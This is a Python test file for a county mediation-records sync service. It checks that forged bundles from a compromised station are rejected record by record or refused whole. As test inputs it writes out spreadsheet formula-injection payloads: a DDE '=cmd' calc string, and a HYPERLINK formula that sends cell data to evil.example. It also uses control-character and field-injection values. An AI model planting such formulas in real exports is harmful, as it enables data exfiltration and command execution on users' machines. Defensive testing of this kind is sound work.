"""A station PC in an attacker's hands: bundles correctly signed with the station's real enrolled key, whose
contents are hostile. Each record that fails the county's checks is listed and not stored (nor what depends
on it); what is wrong with the bundle as a whole refuses it, the station told why; the county's database is
otherwise exactly as before."""
from __future__ import annotations

import hashlib
import io
import json
import zipfile

import pytest

from app.services import agreements, evidence, stations
from app.sync import archive
from app.sync.county_import import import_bundles
from app.sync.receipts import import_receipt
from db.models import SentBundle
from tests.conftest import Db, accept, full_case_record, register
from tests.sync.conftest import content, export, link, open_bundle, open_payload, seal, snapshot

CODE = "330101001"


@pytest.fixture(params=["sqlite", "postgresql"])
def any_county(request, county_db):
    return county_db if request.param == "sqlite" else request.getfixturevalue("pg_county")


def lines(entries: dict[str, bytes], table: str) -> list[dict]:
    return [json.loads(x) for x in entries[f"records/{table}.jsonl"].splitlines() if x.strip()]


def forge(entries: dict[str, bytes], *, number: int = 1, **tables: list[dict]) -> dict[str, bytes]:
    """The entries with some tables' records replaced, the manifest's counts and digests made to match: what a
    compromised station would sign."""
    out = dict(entries)
    for table, records in tables.items():
        out[f"records/{table}.jsonl"] = "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records).encode()
    manifest = json.loads(out.pop("manifest.json"))
    manifest["counts"] = {**manifest["counts"], **{t: len(r) for t, r in tables.items()}}
    manifest["number"] = number
    manifest["files"] = {n: archive.digest(d) for n, d in out.items()}
    return {"manifest.json": json.dumps(manifest, ensure_ascii=False).encode(), **out}


def sealed(county, entries, tmp_path, name: str, number: int = 1):
    return seal(county, entries, station_code=CODE, number=number, out=tmp_path / name)


def second_station(tmp_path, code: str, name: str) -> Db:
    from app.database import open_database

    engine, read, write = open_database(tmp_path / f"{code}.sqlite")
    with write.begin() as s:
        stations.init_station(s, name=name, code=code, county="某某县", case_prefix="东人", mediator_name="周调解")
    return Db(tmp_path / f"{code}.sqlite", engine, read, write)


def test_negative_amounts_unknown_codes_and_impossible_dates_are_listed_and_not_stored(db, any_county, tmp_path):
    register(db)
    link(db, any_county, tmp_path)
    bundle = export(db, tmp_path / "out")
    entries = open_bundle(any_county, bundle.path)
    [good] = lines(entries, "dispute")
    parties = lines(entries, "party")
    changes = {"negative": {"amount_fen": -500_00}, "huge": {"amount_fen": 10**15},
               "formula": {"type_code": "=cmd|' /C calc'!A0"}, "source": {"source_code": "hacker"},
               "old": {"registered_on": "1899-12-31"}, "future": {"registered_on": "2999-01-01"},
               "status": {"status": "hacked"}, "text": {"title": 17}, "control": {"facts": "漏水\x00\x1b[31m"},
               "extra": {"is_admin": True}}
    disputes, children, bad = [good], list(parties), {}
    for i, (kind, change) in enumerate(changes.items()):
        uid = f"00000000-0000-4000-8000-{i:012d}"
        bad[uid] = kind
        disputes.append({**good, "uid": uid, **change})
        children.append({**parties[0], "uid": f"11111111-0000-4000-8000-{i:012d}", "dispute_id": uid})
    path = sealed(any_county, forge(entries, dispute=disputes, party=children), tmp_path, "bad.msb")
    [report] = import_bundles(any_county.write, [path], receipt_dir=tmp_path / "receipts")
    assert report.status == "applied", report.message
    refused = {(r.table, r.uid) for r in report.rejected}
    assert {("dispute", uid) for uid in bad} <= refused                       # each listed...
    assert len([r for r in report.rejected if r.table == "party"]) == len(bad)    # ...and what depends on it
    stored = content(any_county.engine)
    assert set(stored["dispute"]) == {good["uid"]} and set(stored["party"]) == {p["uid"] for p in parties}
    assert "20" in report.message and "amount_fen" in report.message
    [receipt] = report.receipts                                # the station is told, record by record
    body = json.loads(receipt.read_text(encoding="utf-8"))
    assert {r["uid"] for r in body["rejected"]} >= set(bad) and body["outcome"]["rejected"] == 2 * len(bad)


def test_a_case_cannot_move_back_along_the_lifecycle(db, county_db, tmp_path):
    d = register(db)
    accept(db, d)
    link(db, county_db, tmp_path)
    first = export(db, tmp_path / "out")
    assert import_bundles(county_db.write, [first.path])[0].status == "applied"
    entries = open_bundle(county_db, first.path)
    [case] = lines(entries, "dispute")
    assert case["status"] == "accepted"
    back = {**case, "revision": case["revision"] + 1, "status": "registered", "case_no": None}
    step = {**lines(entries, "status_change")[-1], "uid": "22222222-0000-4000-8000-000000000001",
            "from_status": "accepted", "to_status": "registered"}
    leap = {**step, "uid": "22222222-0000-4000-8000-000000000002", "from_status": "archived",
            "to_status": "settled"}
    before = content(county_db.engine)
    path = sealed(county_db, forge(entries, number=2, dispute=[back], status_change=[step, leap]), tmp_path,
                  "back.msb", number=2)
    [report] = import_bundles(county_db.write, [path])
    assert report.status == "applied", report.message
    assert {r.uid for r in report.rejected} == {case["uid"], step["uid"], leap["uid"]}, report.rejected
    assert any("生命周期" in r.reason for r in report.rejected)
    assert content(county_db.engine) == before


def test_one_station_cannot_overwrite_anothers_legal_provisions(db, county_db, tmp_path):
    with db.write.begin() as s:
        agreements.add_provision(s, law="中华人民共和国民法典", article="第二百八十八条", gist="相邻关系")
    link(db, county_db, tmp_path)
    assert import_bundles(county_db.write, [export(db, tmp_path / "a").path])[0].status == "applied"
    other = second_station(tmp_path, "330101002", "东岭村人民调解委员会")
    link(other, county_db, tmp_path)
    own = export(other, tmp_path / "b")
    entries = open_bundle(county_db, own.path)
    [theirs] = lines(open_bundle(county_db, export(db, tmp_path / "a", full=True).path), "legal_provision")
    [station] = lines(entries, "station")
    mine = {**theirs, "uid": "33333333-0000-4000-8000-000000000001", "station_id": station["uid"]}
    hijack = {**theirs, "revision": theirs["revision"] + 5, "gist": "已被篡改"}          # still names the owner
    before = content(county_db.engine)
    path = seal(county_db, forge(entries, legal_provision=[hijack, mine]), station_code="330101002", number=1,
                out=tmp_path / "hijack.msb")
    [report] = import_bundles(county_db.write, [path])
    assert report.status == "applied", report.message
    assert [(r.uid, r.reason) for r in report.rejected] == [(theirs["uid"], "记录属于另一个调解站")]
    after = content(county_db.engine)
    assert after["legal_provision"][theirs["uid"]] == before["legal_provision"][theirs["uid"]]
    assert after["legal_provision"][mine["uid"]]["station_id"] == station["uid"]
    # claiming it as its own: the row belongs to the other station, so the whole bundle is refused
    claimed = {**hijack, "station_id": station["uid"]}
    path = seal(county_db, forge(entries, number=2, legal_provision=[claimed]), station_code="330101002",
                number=2, out=tmp_path / "claim.msb")
    before = snapshot(county_db.engine)
    [report] = import_bundles(county_db.write, [path])
    assert report.status == "refused" and "属于其他调委会" in report.message
    assert snapshot(county_db.engine) == before
    other.engine.dispose()


def test_a_file_that_is_not_its_hash_or_that_no_record_refers_to_is_refused(db, county_db, tmp_path):
    full_case_record(db)
    link(db, county_db, tmp_path)
    bundle = export(db, tmp_path / "out")
    entries = open_bundle(county_db, bundle.path)
    [name] = [n for n in entries if n.startswith("attachments/")]
    before = snapshot(county_db.engine)
    swapped = forge({**entries, name: "维修报价：35000.50元".encode()})
    orphan = forge({**entries, f"attachments/{hashlib.sha256(b'x').hexdigest()}": b"x"})
    for forged, words in ((swapped, "SHA-256"), (orphan, "没有任何记录")):
        path = sealed(county_db, forged, tmp_path, "file.msb")
        [report] = import_bundles(county_db.write, [path], receipt_dir=tmp_path / "r")
        assert report.status == "refused" and words in report.message, report.message
        assert snapshot(county_db.engine) == before
        [receipt] = report.receipts                                     # the station is told why
        assert json.loads(receipt.read_text(encoding="utf-8"))["reason"] == report.message
        receipt.unlink()


def test_a_blank_scanned_page_that_compresses_229_to_1_is_taken(db, county_db, tmp_path):
    from app.attachments import AttachmentStore

    d = register(db)
    page = bytearray(b"\xff" * (4 << 20))                     # a white A4 page, 4 MiB, a few specks of dust
    for i in range(40):
        page[(i * 104_729) % len(page)] = 0
    scan = tmp_path / "空白页扫描.bmp"
    scan.write_bytes(bytes(page))
    with db.write.begin() as s:
        evidence.add_evidence(s, dispute_id=d, name="扫描件", kind="documentary", pages=1, provided_by="张三",
                              store=AttachmentStore.beside(db.path), files=[scan])
    link(db, county_db, tmp_path)
    bundle = export(db, tmp_path / "out")
    payload = open_payload(county_db, bundle.path)
    [info] = [i for i in zipfile.ZipFile(io.BytesIO(payload)).infolist() if i.filename.startswith("attachments/")]
    assert info.file_size / info.compress_size > 200             # what the ratio check of before refused
    [report] = import_bundles(county_db.write, [bundle.path])
    assert report.status == "applied", report.message
    with county_db.read() as s:
        from db.models import CountyFile
        assert s.get(CountyFile, hashlib.sha256(page).hexdigest()).data == bytes(page)


def test_a_refused_bundles_reason_reaches_the_station(head_login, county_db, tmp_path, monkeypatch, capsys):
    """The station's own bundle, refused at the county (here a county not yet upgraded to the station's
    schema): the signed receipt says why, and the station keeps it."""
    from app.sync import validate
    from ui.cli import main

    db = head_login
    register(db)
    link(db, county_db, tmp_path)
    bundle = export(db, tmp_path / "out")
    monkeypatch.setattr(validate, "schema_version", lambda: 1)
    [report] = import_bundles(county_db.write, [bundle.path])
    assert report.status == "refused" and "请先升级" in report.message
    [receipt] = report.receipts
    assert main(["--db", str(db.path), "receipt", "import", str(receipt)]) == 1
    assert "请先升级" in capsys.readouterr().err
    with db.read() as s:
        sent = s.get(SentBundle, 1)
    assert sent.receipt == "refused" and "请先升级" in sent.receipt_note
    result = import_receipt(db.write, receipt, station_code=CODE)
    assert result.status == "refused" and result.note == report.message


def test_a_station_name_never_becomes_a_formula_in_the_countys_spreadsheets(county_db, cli_env, tmp_path,
                                                                             monkeypatch):
    """The committee's name as its own bundle carries it, in `county stats --by station` as xlsx and CSV."""
    from openpyxl import load_workbook

    from app.services import accounts
    from tests.conftest import CLI_PASSWORD, CLI_USER
    from tests.sync.conftest import PASSPHRASE
    from ui.cli import main

    monkeypatch.setenv("MEDIATION_COUNTY_PASSPHRASE", PASSPHRASE)
    name = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    station = second_station(tmp_path, "330101007", name)
    register(station, title="邻里纠纷")
    link(station, county_db, tmp_path)
    with county_db.write.begin() as s:
        accounts.add_account(s, name=CLI_USER, role="reviewer", password=CLI_PASSWORD)
    assert import_bundles(county_db.write, [export(station, tmp_path / "out").path])[0].status == "applied"
    for fmt in ("xlsx", "csv"):
        out = tmp_path / f"stats.{fmt}"
        assert main(["county", "stats", "--period", "2026-11", "--by", "station", "--format", fmt, "--out", str(out),
                     "--db", county_db.url]) == 0
        if fmt == "xlsx":
            cell = load_workbook(out).active["A2"]
            assert cell.data_type == "s" and cell.value == "'" + name
        else:
            first = out.read_text(encoding="utf-8-sig").splitlines()[1]
            assert first.startswith('"\'=HYPERLINK(') or first.startswith("'=HYPERLINK(")
    station.engine.dispose()


def test_a_provision_received_before_owners_goes_to_the_station_that_sends_it_again(db, county_db, tmp_path):
    with db.write.begin() as s:
        agreements.add_provision(s, law="中华人民共和国民法典", article="第二百八十八条", gist="相邻关系")
    link(db, county_db, tmp_path)
    bundle = export(db, tmp_path / "out")
    assert import_bundles(county_db.write, [bundle.path])[0].status == "applied"
    from sqlalchemy import text

    with county_db.write.begin() as s:                        # as 0011 leaves what came before it
        s.execute(text("UPDATE legal_provision SET station_id = NULL"))
    [provision] = lines(open_bundle(county_db, bundle.path), "legal_provision")
    with db.write.begin() as s:                               # as 0011 does at the station
        s.execute(text("UPDATE legal_provision SET revision = revision + 1"))
    [report] = import_bundles(county_db.write, [export(db, tmp_path / "out").path])
    assert report.status == "applied" and report.outcome["updated"] == 1, report.message
    stored = content(county_db.engine)["legal_provision"][provision["uid"]]
    assert stored["station_id"] == provision["station_id"] and stored["revision"] == provision["revision"] + 1


def test_control_and_broken_characters_are_refused_and_emoji_kept(db, county_db, tmp_path):
    register(db)
    link(db, county_db, tmp_path)
    entries = open_bundle(county_db, export(db, tmp_path / "out").path)
    [good] = lines(entries, "dispute")
    titles = {"escaped-nul": "漏水\x00", "escape-seq": "\x1b[2J", "del": "a\x7fb", "lone-surrogate": "\ud800",
              "backspace": "a\bb", "raw-surrogate": "\udfff", "emoji-escaped": "\ud83d\ude00", "emoji": "😀 邻里"}
    disputes = [good] + [{**good, "uid": f"44444444-0000-4000-8000-{i:012d}", "title": t}
                         for i, t in enumerate(titles.values())]
    forged = forge(entries, dispute=disputes[:1])
    body = "".join(json.dumps(r, ensure_ascii="raw" not in r["title"] and r["title"] != "\udfff") + "\n"
                   for r in disputes)          # ASCII escapes, as some writers do; one surrogate as raw bytes
    forged["records/dispute.jsonl"] = body.encode("utf-8", "surrogatepass")
    manifest = json.loads(forged["manifest.json"])
    manifest["counts"]["dispute"] = len(disputes)
    forged["manifest.json"] = json.dumps(manifest).encode()
    forged = forge(forged)                                     # the digests again
    [report] = import_bundles(county_db.write, [sealed(county_db, forged, tmp_path, "chars.msb")])
    assert report.status == "applied", report.message
    refused = {r.uid[-1]: r.reason for r in report.rejected if r.table == "dispute"}
    assert set(refused) == {"0", "1", "2", "3", "4", "5"} and all("字符" in why for why in refused.values())
    stored = {r["title"] for r in content(county_db.engine)["dispute"].values()}
    assert stored == {good["title"], "😀", "😀 邻里"}


def test_the_committee_roster_and_performance_records_are_checked_at_the_county(db, any_county, tmp_path):
    from tests.sync.test_roundtrip import add_committee_records

    add_committee_records(db)
    link(db, any_county, tmp_path)
    bundle = export(db, tmp_path / "out")
    entries = open_bundle(any_county, bundle.path)
    [member] = lines(entries, "roster_member")
    [deposit] = lines(entries, "deposit")
    [unperformed] = lines(entries, "nonperformance")
    [station] = lines(entries, "station")
    mediators = lines(entries, "mediator")
    bad = {"roster_member": [member, {**member, "uid": "00000000-0000-4000-8000-000000000001", "category": "spy"}],
           "deposit": [deposit, {**deposit, "uid": "00000000-0000-4000-8000-000000000002", "amount_fen": -1},
                       {**deposit, "uid": "00000000-0000-4000-8000-000000000003", "outcome": "stolen"},
                       {**deposit, "uid": "00000000-0000-4000-8000-000000000006", "amount_fen": 0},
                       {**deposit, "uid": "00000000-0000-4000-8000-000000000007", "outcome": "released",
                        "settled_on": "2026-11-01", "settled_to": "张三"},          # before it was received
                       {**deposit, "uid": "00000000-0000-4000-8000-000000000008", "outcome": "returned"}],
           "nonperformance": [unperformed, {**unperformed, "uid": "00000000-0000-4000-8000-000000000004",
                                            "options_explained": ["ignore"]}],
           "mediator": [*mediators, {**mediators[0], "uid": "00000000-0000-4000-8000-000000000005",
                                     "training_hours": -3, "education": "phd"}]}
    path = sealed(any_county, forge(entries, **bad), tmp_path, "bad.msb")
    [report] = import_bundles(any_county.write, [path], receipt_dir=tmp_path / "receipts")
    assert report.status == "applied", report.message
    assert {r.uid[-1] for r in report.rejected} == {"1", "2", "3", "4", "5", "6", "7", "8"}
    stored = content(any_county.engine)
    assert set(stored["roster_member"]) == {member["uid"]} and set(stored["deposit"]) == {deposit["uid"]}
    assert set(stored["nonperformance"]) == {unperformed["uid"]}
    assert stored["station"][station["uid"]]["committee_kind"] == "township"


def test_a_typical_case_with_an_unknown_type_is_refused(db, any_county, tmp_path):
    from app.services import case_library
    from tests.conftest import closed_case

    d = closed_case(db, "oral")
    with db.write.begin() as s:
        draft = case_library.draft_summary(s, dispute_id=d)
        case_library.mark_typical(s, dispute_id=d, title=draft.title, type_code=draft.type_code, tags="",
                                  summary=draft.summary, by=1)
    link(db, any_county, tmp_path)
    entries = open_bundle(any_county, export(db, tmp_path / "out").path)
    [good] = lines(entries, "case_library_entry")
    bad = [{**good, "uid": "00000000-0000-4000-8000-000000000001", "type_code": "=cmd|' /C calc'!A0"},
           {**good, "uid": "00000000-0000-4000-8000-000000000002", "type_code": "hacked"}]
    path = sealed(any_county, forge(entries, case_library_entry=[good, *bad]), tmp_path, "bad.msb")
    [report] = import_bundles(any_county.write, [path], receipt_dir=tmp_path / "receipts")
    assert report.status == "applied", report.message
    assert {r.uid for r in report.rejected if r.table == "case_library_entry"} == {b["uid"] for b in bad}
    assert set(content(any_county.engine)["case_library_entry"]) == {good["uid"]}
